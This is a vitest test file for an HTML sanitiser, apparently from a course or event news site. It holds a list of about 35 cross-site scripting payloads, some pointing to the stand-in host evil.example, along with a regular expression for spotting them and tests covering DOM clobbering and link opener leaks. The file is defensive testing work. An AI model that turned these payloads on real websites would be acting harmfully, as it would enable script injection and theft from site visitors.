import { expect, test } from "vitest";
import { sanitiseHtml } from "./sanitise.ts";

const attacks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x oneonerrorrror=alert(1)>",
  '<img src="x" onerror="alert(1)"',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=pin><button formaction="javascript:alert(1)">x</button></form>',
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<details open ontoggle="alert(1)">x</details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<template><script>alert(1)</script></template>",
  "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<<script>alert(1)//<</script>",
];

const dangerous =
  /<[\s/]*(?:script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|video|audio|template|body)\b|<[^<>]*\son\w+|<[^<>]*=["']?\s*(?:j\W*a\W*v\W*a\W*s|vbscript|data:|[^"'<>]*&#)|\sstyle=|formaction|<!|xmp|noscript|textarea/i;

test.each(attacks)("a visitor is safe from %s", (attack) => {
  expect(attack).toMatch(dangerous);
  expect(sanitiseHtml(attack)).not.toMatch(dangerous);
});

test.each([
  '<h2 id="cut-off">关门时间</h2>',
  '<table><caption>关门</caption><thead><tr><th scope="col" colspan="2">公里</th></tr></thead><tbody><tr><th scope="row">5</th><td>8:30</td></tr></tbody></table>',
  '<ol start="3"><li>甲</li></ol><dl><dt>乙</dt><dd>丙</dd></dl>',
  "<blockquote><p>引</p></blockquote><pre><code>a &lt; b</code></pre><hr />",
  "<strong>a</strong><em>b</em>H<sub>2</sub>O x<sup>2</sup>",
  "<details open><summary>问</summary>答</details>",
  '<a href="#cut-off">x</a><a href="mailto:a@example.org">m</a><a href="tel:+861000">t</a><a href="//example.org">p</a><a href="/news">n</a>',
  '<figure><img src="media/course.jpg" alt="路线" loading="lazy" /><figcaption>图</figcaption></figure>',
])("a reader keeps %s", (html) => {
  const plain = (text: string) => text.replace(/ (?:alt|loading)="[^"]*"/g, "");
  expect(plain(sanitiseHtml(html))).toBe(plain(html));
});

test("an article cannot take the names of the page's own parts", () => {
  for (const id of ["__proto__", "constructor", "config", "toString"])
    expect(sanitiseHtml(`<h2 id="${id}">x</h2>`)).toBe("<h2>x</h2>");
  expect(sanitiseHtml('<p id="boot">x</p><h2 id="root">y</h2><p id="water">z</p>')).toBe(
    '<p>x</p><h2>y</h2><p id="water">z</p>',
  );
});

test("a reader who opens a link in a new tab gives nothing away to it", () => {
  expect(sanitiseHtml('<a href="https://example.org" target="_blank" rel="opener">x</a>')).toBe(
    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
  );
});

test("a reader gets the same from text that has been cleaned before", () => {
  for (const attack of [...attacks, "a & b < c > d"])
    expect(sanitiseHtml(sanitiseHtml(attack))).toBe(sanitiseHtml(attack));
});
